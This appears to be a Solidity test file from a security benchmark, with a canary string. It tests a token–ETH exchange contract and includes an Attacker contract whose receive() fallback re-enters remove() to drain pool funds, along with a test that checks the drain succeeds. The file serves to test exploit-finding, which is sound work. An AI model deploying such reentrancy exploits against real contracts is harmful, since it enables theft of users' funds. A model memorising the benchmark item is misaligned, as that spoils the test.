// SPDX-License-Identifier: MIT
pragma solidity 0.8.19;

import "./PairExchange.sol";

// assay-canary-1465eafc-34ce-470c-ae23-14d50207ab8b

interface Vm {
    function deal(address account, uint256 amount) external;
    function expectRevert(bytes4 reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

contract Token is IToken {
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    constructor() {
        balanceOf[msg.sender] = 100_000e18;
    }

    function approve(address b, uint256 n) external {
        allowance[msg.sender][b] = n;
    }

    function transfer(address b, uint256 n) external returns (bool) {
        return move(msg.sender, b, n);
    }

    function transferFrom(address a, address b, uint256 n) external returns (bool) {
        if (allowance[a][msg.sender] < n) return false;
        allowance[a][msg.sender] -= n;
        return move(a, b, n);
    }

    function move(address a, address b, uint256 n) private returns (bool) {
        if (balanceOf[a] < n || b == address(0xDEAD)) return false;
        balanceOf[a] -= n;
        balanceOf[b] += n;
        return true;
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant GOV = address(0x60F);
    address private constant A = address(0xA9A);
    address private constant DEAD = address(0xDEAD);
    uint256 private constant NOW = 1_700_000_000;

    Token private t;
    PairExchange private p;
    Attacker private z;

    function setUp() public {
        vm.warp(NOW);
        t = new Token();
        vm.deal(GOV, 10 ether);
        vm.deal(A, 120 ether);
        vm.deal(DEAD, 10 ether);
        t.transfer(GOV, 5_000e18);
        t.transfer(A, 20_000e18);
        vm.startPrank(GOV);
        p = new PairExchange(t, 30);
        t.approve(address(p), 5_000e18);
        p.open{value: 1 ether}(100e18);
        vm.stopPrank();
        vm.startPrank(A);
        t.approve(address(p), type(uint256).max);
        p.add{value: 99 ether}(9_901e18, NOW);
        vm.stopPrank();
        z = new Attacker(p, t);
        vm.deal(address(z), 10 ether);
        t.transfer(address(z), 1_100e18);
    }

    function test_Regular() public {
        require(p.shares(A) == 99 ether && p.supply() == 100 ether && p.x() == 100 ether, "added");
        vm.startPrank(A);
        uint256 o = p.buy{value: 10 ether}(900e18, NOW);
        require(o > 906e18 && o < 907e18 && p.y() == 10_000e18 + 1 - o, "bought");
        o = p.sell(1_000e18, 10 ether, NOW);
        require(o > 10.8 ether && o < 11 ether && p.x() == 110 ether - o, "sold");
        uint256 b = A.balance;
        p.remove(50 ether, 49 ether, 5_000e18, NOW);
        require(p.shares(A) == 49 ether && A.balance > b + 49 ether && p.supply() == 50 ether, "removed");
        p.add{value: 5 ether}(type(uint256).max, NOW);
        p.remove(p.shares(A), 0, 0, NOW);
        require(p.supply() == 1 ether && p.shares(address(p)) == 1 ether, "the rest");
        vm.stopPrank();
        vm.prank(GOV);
        p.setFee(100);
        PairExchange q = new PairExchange(t, 0);
        vm.deal(address(this), 1 ether);
        t.approve(address(q), 1 ether);
        q.open{value: 1 ether}(1 ether);
    }

    function test_RefusesOwners() public {
        vm.expectRevert(PairExchange.Denied.selector);
        p.setFee(1);
        vm.expectRevert(PairExchange.Limit.selector);
        new PairExchange(t, 101);
        PairExchange q = new PairExchange(t, 0);
        t.approve(address(q), 1e30);
        vm.deal(address(this), 10 ether);
        vm.expectRevert(PairExchange.Closed.selector);
        q.add{value: 1 ether}(0, NOW);
        vm.expectRevert(PairExchange.Closed.selector);
        q.buy{value: 1 ether}(0, NOW);
        vm.expectRevert(PairExchange.Short.selector);
        q.open{value: 1 ether - 1}(1 ether);
        vm.expectRevert(PairExchange.Short.selector);
        q.open{value: 1 ether}(1 ether - 1);
        vm.expectRevert(PairExchange.Unpaid.selector);
        q.open{value: 1 ether}(100_001e18);
        vm.startPrank(GOV);
        vm.expectRevert(PairExchange.Denied.selector);
        q.open{value: 1 ether}(1 ether);
        vm.expectRevert(PairExchange.Limit.selector);
        p.setFee(101);
        vm.expectRevert(PairExchange.Open.selector);
        p.open{value: 1 ether}(1 ether);
        vm.stopPrank();
    }

    function test_RefusesLimits() public {
        vm.startPrank(A);
        vm.expectRevert(PairExchange.Short.selector);
        p.add(1, NOW);
        vm.expectRevert(PairExchange.Limit.selector);
        p.add{value: 1 ether}(100e18, NOW);
        vm.expectRevert(PairExchange.Short.selector);
        p.remove(0, 0, 0, NOW);
        vm.expectRevert(PairExchange.Short.selector);
        p.remove(99 ether + 1, 0, 0, NOW);
        vm.expectRevert(PairExchange.Limit.selector);
        p.remove(1 ether, 1 ether + 1, 0, NOW);
        vm.expectRevert(PairExchange.Limit.selector);
        p.remove(1 ether, 0, 101e18, NOW);
        vm.expectRevert(PairExchange.Limit.selector);
        p.buy(0, NOW);
        vm.expectRevert(PairExchange.Limit.selector);
        p.buy{value: 1 ether}(100e18, NOW);
        vm.expectRevert(PairExchange.Limit.selector);
        p.sell(0, 0, NOW);
        vm.expectRevert(PairExchange.Limit.selector);
        p.sell(100e18, 1 ether, NOW);
        vm.stopPrank();
    }

    function test_RefusesLateness() public {
        vm.startPrank(A);
        vm.expectRevert(PairExchange.Late.selector);
        p.add{value: 1 ether}(1e30, NOW - 1);
        vm.expectRevert(PairExchange.Late.selector);
        p.remove(1 ether, 0, 0, NOW - 1);
        vm.expectRevert(PairExchange.Late.selector);
        p.buy{value: 1 ether}(0, NOW - 1);
        vm.expectRevert(PairExchange.Late.selector);
        p.sell(1e18, 0, NOW - 1);
        vm.stopPrank();
    }

    function test_RefusesTheUnpaid() public {
        vm.startPrank(DEAD);
        vm.expectRevert(PairExchange.Unpaid.selector);
        p.buy{value: 1 ether}(0, NOW);
        vm.expectRevert(PairExchange.Unpaid.selector);
        p.sell(1e18, 0, NOW);
        vm.expectRevert(PairExchange.Unpaid.selector);
        p.add{value: 1 ether}(1e30, NOW);
        vm.stopPrank();
        t.approve(address(p), 1e30);
        vm.expectRevert(PairExchange.Unpaid.selector);
        p.sell(1e18, 0, NOW);
    }

    function exploit() public {
        z.run();
    }

    function test_Exploit() public {
        exploit();
        require(address(z).balance >= 40 ether, "nothing gained");
    }

    function target() public view returns (address) {
        return address(p);
    }

    function attacker() public view returns (address) {
        return address(z);
    }
}

contract Attacker {
    PairExchange private p;
    Token private t;
    uint256 private n;
    uint256 private left;

    constructor(PairExchange p_, Token t_) {
        p = p_;
        t = t_;
    }

    function run() external {
        t.approve(address(p), 1_100e18);
        n = p.add{value: 10 ether}(1_100e18, block.timestamp);
        left = 4;
        p.remove(n, 0, 0, block.timestamp);
    }

    receive() external payable {
        if (left > 0) {
            left--;
            p.remove(n, 0, 0, block.timestamp);
        }
    }
}
